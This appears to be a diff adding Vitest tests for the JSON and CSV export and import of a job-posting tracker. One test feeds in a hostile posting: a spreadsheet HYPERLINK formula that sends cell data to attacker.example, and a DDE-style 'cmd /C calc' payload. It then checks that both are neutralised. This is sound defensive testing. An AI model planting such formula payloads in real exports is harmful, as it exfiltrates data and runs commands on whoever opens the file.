@@ -1,0 +1,211 @@
+import { beforeEach, describe, expect, it } from 'vitest';
+import { clearAll, recordCapture, setStatus } from '../db';
+import type { Note, PostingRow, StatusEvent } from '../schema';
+import { BOM } from './csv';
+import {
+  buildExport,
+  buildTrackerCsv,
+  CSV_HEADER,
+  exportFileName,
+  formatSalary,
+  toCsv,
+} from './export';
+import { support, supportExtraction } from './fixtures';
+import { applyImport, previewImport } from './import';
+import { DAY, seedTracker, T0 } from './testing-db';
+
+/** Splits the writer's output back into cells (quoted fields may hold commas, quotes, CRLF). */
+function cells(csv: string): string[][] {
+  expect(csv.startsWith(BOM)).toBe(true);
+  const rows: string[][] = [];
+  const re = /("(?:[^"]|"")*"|[^,"\r\n]*)(,|\r\n)/gy;
+  let row: string[] = [];
+  for (const m of csv.slice(1).matchAll(re)) {
+    const raw = m[1] ?? '';
+    row.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
+    if (m[2] === '\r\n') {
+      rows.push(row);
+      row = [];
+    }
+  }
+  return rows;
+}
+
+beforeEach(seedTracker);
+
+describe('JSON export', () => {
+  it('holds every table, with versions, contacts, profile and settings', async () => {
+    const file = await buildExport(T0 + 10 * DAY);
+    expect(file.format).toBe('reqlens-export');
+    expect(file.version).toBe(1);
+    expect(file.postings.map((p) => p.jobKey).sort()).toEqual([
+      'lever:maplepay:8f1c2a9e-11aa-4b7e-9c55-0d3f7b2e6a10',
+      'stepstone:10493822',
+      'wttj:rhone-logistique:comptable-fournisseurs_lyon',
+    ]);
+    const lever = file.postings.find((p) => p.site === 'lever');
+    expect(lever?.versions.map((v) => v.text)).toEqual([support.text]);
+    expect(lever?.text).toContain('fully remote');
+    expect(lever?.contacts[0]?.name).toBe('Priya Raman');
+    expect(file.events.map((e) => e.to)).toEqual(['saved', 'applied', 'saved']);
+    expect(file.notes).toHaveLength(2);
+    expect(file.profile?.languages).toEqual([{ language: 'fr', level: 'B2' }]);
+    expect(file.settings.backupEveryDays).toBe(7);
+  });
+
+  it('round-trips exactly: export, clear, import, export', async () => {
+    const before = await buildExport(T0 + 10 * DAY);
+    const json = JSON.stringify(before);
+    await clearAll();
+    expect((await buildExport(T0 + 10 * DAY)).postings).toEqual([]);
+
+    const preview = await previewImport(JSON.parse(json));
+    if (!preview.ok) throw new Error(preview.error);
+    expect(preview).toMatchObject({
+      added: 3,
+      updated: 0,
+      eventsAdded: 3,
+      notesAdded: 2,
+      profile: 'import',
+      settings: 'import',
+    });
+    await applyImport(preview.file);
+
+    const after = await buildExport(T0 + 10 * DAY);
+    expect(JSON.stringify(after)).toBe(json);
+  });
+
+  it('names files by local date', () => {
+    expect(exportFileName(new Date(2026, 10, 3, 23, 30).getTime())).toBe(
+      'reqlens-export-2026-11-03.json',
+    );
+    expect(exportFileName(new Date(2026, 0, 9, 0, 5).getTime(), 'csv')).toBe(
+      'reqlens-tracker-2026-01-09.csv',
+    );
+  });
+});
+
+describe('tracker CSV', () => {
+  it('lists saved postings with dates, salary and notes, but not merely seen ones', async () => {
+    const rows = cells(await buildTrackerCsv());
+    expect(rows[0]).toEqual([...CSV_HEADER]);
+    expect(rows).toHaveLength(3);
+    const byTitle = new Map(rows.slice(1).map((r) => [r[0], r]));
+    expect(byTitle.has('Pflegefachkraft (m/w/d) Intensivstation')).toBe(false);
+    const lead = byTitle.get('Customer Support Lead');
+    expect(lead?.slice(1, 4)).toEqual(['MaplePay', 'Toronto, ON', 'applied']);
+    expect(lead?.[9]).toBe('72000–85000 CAD per year');
+    expect(lead?.[11]).toBe('Referred by Priya (ex-colleague), "priority" pipeline');
+    const comptable = byTitle.get('Comptable fournisseurs (H/F)');
+    expect(comptable?.[1]).toBe('Rhône Logistique');
+    expect(comptable?.[7]).toBe('2026-05-31');
+    expect(comptable?.[11]).toBe(
+      'Relancer Mme Dubois le 16 mars\nTél. standard: +33 4 72 00 00 00',
+    );
+  });
+
+  it('neutralises a posting title written as a formula', async () => {
+    const hostile = {
+      ...support,
+      jobKey: 'lever:evil:1',
+      title: '=HYPERLINK("https://attacker.example/?"&A1,"Apply")',
+      company: "@SUM(1+1)*cmd|' /C calc'!A0",
+    };
+    await recordCapture(hostile, supportExtraction, T0 + 5 * DAY);
+    await setStatus(hostile.jobKey, 'saved', T0 + 5 * DAY);
+    const row = cells(await buildTrackerCsv()).find((r) => r[0]?.includes('HYPERLINK'));
+    expect(row?.[0]).toBe(`'=HYPERLINK("https://attacker.example/?"&A1,"Apply")`);
+    expect(row?.[1]).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+  });
+});
+
+describe('toCsv', () => {
+  const base = {
+    url: 'https://example.com/jobs/1?utm=x',
+    canonicalUrl: 'https://example.com/jobs/1',
+    site: 'generic',
+    detectedBy: 'generic',
+    location: null,
+    createdAt: T0,
+    updatedAt: T0,
+    capturedAt: T0,
+    savedAt: T0,
+    appliedAt: null,
+    deadline: null,
+    reminderAt: null,
+    contacts: [],
+    extraction: {
+      posting: {
+        title: 'Técnico de mantenimiento',
+        company: 'Talleres Ebro',
+        locations: ['Zaragoza', 'Huesca'],
+        workplace: null,
+        employmentType: null,
+        salary: { min: 24000, max: null, currency: 'EUR', period: 'year' },
+        relocation: null,
+        visaSponsorship: null,
+        lang: 'es',
+      },
+      requirements: [],
+    },
+  } satisfies Omit<PostingRow, 'jobKey' | 'title' | 'company' | 'status'>;
+
+  it('falls back to extracted facts and takes the last status change from events', () => {
+    const posting: PostingRow = {
+      ...base,
+      jobKey: 'generic:1',
+      title: null,
+      company: null,
+      status: 'interviewing',
+    };
+    const events: StatusEvent[] = [
+      {
+        id: 1,
+        jobKey: 'generic:1',
+        from: 'saved',
+        to: 'interviewing',
+        at: new Date(2026, 2, 20, 12).getTime(),
+      },
+      {
+        id: 2,
+        jobKey: 'generic:1',
+        from: 'seen',
+        to: 'saved',
+        at: new Date(2026, 2, 1, 12).getTime(),
+      },
+    ];
+    const notes: Note[] = [
+      {
+        id: 2,
+        jobKey: 'generic:1',
+        text: 'segunda entrevista',
+        createdAt: T0 + 2,
+        updatedAt: T0 + 2,
+      },
+      { id: 1, jobKey: 'generic:1', text: 'primera llamada', createdAt: T0 + 1, updatedAt: T0 + 1 },
+      { id: 3, jobKey: 'other', text: 'not this one', createdAt: T0, updatedAt: T0 },
+    ];
+    const [, row] = cells(toCsv([posting], events, notes));
+    expect(row?.slice(0, 5)).toEqual([
+      'Técnico de mantenimiento',
+      'Talleres Ebro',
+      'Zaragoza; Huesca',
+      'interviewing',
+      '2026-03-20',
+    ]);
+    expect(row?.[9]).toBe('from 24000 EUR per year');
+    expect(row?.[10]).toBe('https://example.com/jobs/1');
+    expect(row?.[11]).toBe('primera llamada\n\nsegunda entrevista');
+  });
+
+  it('formats salary ranges without locale separators', () => {
+    expect(formatSalary(null)).toBe('');
+    expect(formatSalary({ min: null, max: null, currency: 'USD', period: 'hour' })).toBe('');
+    expect(formatSalary({ min: 25, max: 25, currency: 'USD', period: 'hour' })).toBe(
+      '25 USD per hour',
+    );
+    expect(formatSalary({ min: null, max: 4200, currency: null, period: 'month' })).toBe(
+      'up to 4200 per month',
+    );
+  });
+});
